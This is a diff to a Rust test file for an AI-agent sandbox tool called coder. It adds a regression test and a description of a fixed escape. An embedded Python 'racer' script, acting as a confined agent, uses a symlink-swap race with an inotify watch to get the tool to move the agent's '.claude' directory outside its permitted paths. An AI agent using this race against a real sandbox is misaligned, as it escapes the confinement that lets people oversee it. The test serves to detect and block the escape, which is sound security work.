@@ -7,6 +7,12 @@
 //!   with `--allow-tmp`) by comparing paths only: the same directory under another path (a
 //!   bind mount of the grant, or of a directory in it) was let through, and the agent
 //!   rewrote the file through the grant's own path.
+//! * a placeholder directory written into before the run's end went back "where it was"
+//!   by its path, after the trash had taken it: an agent of a run with another state
+//!   directory (which no lock excludes), whose tree holds the first run's, turned a
+//!   directory on that path into a symlink in between, and coder moved the agent's
+//!   directory (a `.claude` with a file of its choosing) to wherever the symlink pointed,
+//!   outside every grant of that agent.
 //!
 //! `KNOWN_OPEN` lists attacks still open: an attack on it asserts that its payload still
 //! lands, so the list can only shrink.
@@ -198,6 +204,182 @@ fn a_transcript_or_store_reached_through_a_bind_mount_of_the_workspace_is_refuse
                 assert_eq!(env["success"], true, "{case}: control: {env}");
                 assert!(!landed(&outside), "{case}: control: landed confined: {env}");
             }
+        }
+    }
+}
+
+/// The racer of [`a_refused_trash_entry_goes_back_to_its_own_directory`], run by another
+/// state directory's confined agent whose workspace is `ws`. Once `ws/sub/started` exists
+/// (the first run is under way) it fills the first run's placeholder directories (plain
+/// directories in its own tree) with files (`planted` among them), so that the trash
+/// refuses them, says `armed`, and waits (inotify) for the first to be moved out of
+/// `ws/sub`; then it turns `ws/sub` into a symlink to `outside` at once. `ws/stop-flip`
+/// makes it put `ws/sub` back and answer `ws/idle`; `ws/done` ends it. First it tries to
+/// make a directory in `outside` itself, which its sandbox refuses (`DIRECT-REFUSED`).
+const RACER: &str = r#"
+import ctypes, os, select, sys, time
+ws, out = sys.argv[1], sys.argv[2]
+sub, real = ws + '/sub', ws + '/sub.real'
+names = ['.claude', '.vscode', '.idea', '.githooks', '.husky', '.envrc']
+libc = ctypes.CDLL(None, use_errno=True)
+try:
+    os.mkdir(out + '/direct')
+    print('DIRECT-LANDED')
+except OSError:
+    print('DIRECT-REFUSED')
+sys.stdout.flush()
+stop = lambda: os.path.exists(ws + '/stop-flip') or os.path.exists(ws + '/done')
+deadline = time.time() + 100
+while time.time() < deadline and not os.path.exists(ws + '/done'):
+    if not os.path.exists(sub + '/started') or stop():
+        time.sleep(0.001)
+        continue
+    for n in names:
+        for i in range(400):
+            try:
+                open('%s/%s/%s-%d' % (sub, n, 'p' * 200, i), 'w').close()
+            except OSError:
+                break
+        try:
+            open(sub + '/' + n + '/planted', 'w').close()
+        except OSError:
+            pass
+    fd = libc.inotify_init()
+    libc.inotify_add_watch(fd, sub.encode(), 0x40)  # IN_MOVED_FROM
+    open(sub + '/armed', 'w').close()
+    while not stop():
+        if select.select([fd], [], [], 0.05)[0]:
+            os.rename(sub, real)
+            os.symlink(out, sub)
+            break
+    os.close(fd)
+    while not stop():
+        time.sleep(0.002)
+    if os.path.islink(sub):
+        os.unlink(sub)
+        os.rename(real, sub)
+    open(ws + '/idle', 'w').close()
+    while os.path.exists(ws + '/stop-flip'):
+        time.sleep(0.002)
+print('RACER-DONE')
+"#;
+
+/// The first run's command: it starts the racer and ends once the racer is ready.
+const ARMED: &str = "touch started; i=0; while [ ! -e armed ] && [ $i -lt 2000 ]; do \
+                     sleep 0.01; i=$((i+1)); done";
+
+/// The placeholder names the default `--protect` globs give directories.
+const DIR_PLACEHOLDERS: [&str; 6] = [
+    ".claude",
+    ".vscode",
+    ".idea",
+    ".githooks",
+    ".husky",
+    ".envrc",
+];
+
+/// A run's empty placeholders leave its tree by a rename into the trash; what arrives
+/// there is checked and, if it is not the empty placeholder, renamed back. The run's own
+/// agent is gone by then, and any run with the same state directory whose tree holds the
+/// placeholder keeps it in place (its lock). A run with another state directory is
+/// excluded by nothing (SECURITY.md's known limit): here its agent, confined to `ws`,
+/// works while the first run (workspace `ws/sub`) ends. It writes into the first run's
+/// placeholders (plain directories in its tree), so the trash refuses them and sends them
+/// back, and flips `ws/sub` to a symlink to `outside` in between: by its path, "back" was
+/// `outside/<name>`, with the agent's files in it, a directory that agent may not write
+/// (control: its own `mkdir` there is refused). Now the way back is the directory the
+/// placeholder was taken from, by descriptor. The race is run up to 25 times; before the
+/// fix it landed within a few runs in both arms (the agent's inotify watch sees the first
+/// placeholder leave, and its many files make the trash's emptiness check read a long
+/// first block).
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_refused_trash_entry_goes_back_to_its_own_directory() {
+    common::require_root_and_user_namespaces();
+    let name = "trash entry sent back through a symlink";
+    for owner in [None, Some(NOBODY)] {
+        let tree = Tree::new(owner, &["ws/sub", "outside", "state-b"]);
+        let root = tree.root.clone();
+        let (ws, sub, outside) = (root.join("ws"), root.join("ws/sub"), root.join("outside"));
+        let mut racer = std::process::Command::new("/usr/bin/timeout");
+        racer
+            .args(["110", common::CODER, "sandbox", "--cd"])
+            .arg(&ws)
+            .args(["--", "python3", "-c", RACER])
+            .arg(&ws)
+            .arg(&outside)
+            .env_clear()
+            .env("PATH", sandbox_fixture::PATH)
+            .env("HOME", root.join("home"))
+            .env("CODER_STATE_DIR", root.join("state-b"))
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        sandbox_fixture::as_owner(&mut racer, owner);
+        let racer = racer.spawn().unwrap();
+        let landed = || {
+            DIR_PLACEHOLDERS
+                .iter()
+                .any(|n| outside.join(n).join("planted").exists())
+        };
+        let wait_for = |path: &Path| {
+            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+            while !path.exists() {
+                assert!(
+                    std::time::Instant::now() < deadline,
+                    "no {}",
+                    path.display()
+                );
+                std::thread::sleep(std::time::Duration::from_millis(2));
+            }
+        };
+        let mut rounds = 0;
+        while rounds < 25 && !landed() {
+            rounds += 1;
+            let mut first = std::process::Command::new("/usr/bin/timeout");
+            first
+                .args(["60", common::CODER, "sandbox", "--cd"])
+                .arg(&sub)
+                .args(["--", "sh", "-c", ARMED])
+                .env_clear()
+                .env("PATH", sandbox_fixture::PATH)
+                .env("HOME", root.join("home"))
+                .env("CODER_STATE_DIR", root.join("state"))
+                .current_dir(&root)
+                .stdin(std::process::Stdio::null());
+            sandbox_fixture::as_owner(&mut first, owner);
+            // Its end may fail (its git guard finds `ws/sub` gone mid-flip): no matter.
+            first.output_bounded();
+            // Stop the racer and wait for `ws/sub` to be a directory again; then a fresh
+            // `ws/sub` for the next round.
+            std::fs::write(ws.join("stop-flip"), "").unwrap();
+            wait_for(&ws.join("idle"));
+            for n in DIR_PLACEHOLDERS {
+                let _ = std::fs::remove_dir_all(sub.join(n));
+            }
+            for f in ["started", "armed"] {
+                let _ = std::fs::remove_file(sub.join(f));
+            }
+            let _ = std::fs::remove_file(ws.join("idle"));
+            std::fs::remove_file(ws.join("stop-flip")).unwrap();
+        }
+        std::fs::write(ws.join("done"), "").unwrap();
+        let out = racer.wait_with_output().unwrap();
+        let said = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            said.contains("DIRECT-REFUSED"),
+            "{}: control: {out:?}",
+            who(owner)
+        );
+        let case = format!("{}: {name} ({rounds} runs)", who(owner));
+        if KNOWN_OPEN.contains(&name) {
+            assert!(landed(), "{case}: now blocked");
+        } else {
+            assert!(
+                !landed(),
+                "{case}: the agent's directory landed in {}",
+                outside.display()
+            );
         }
     }
 }
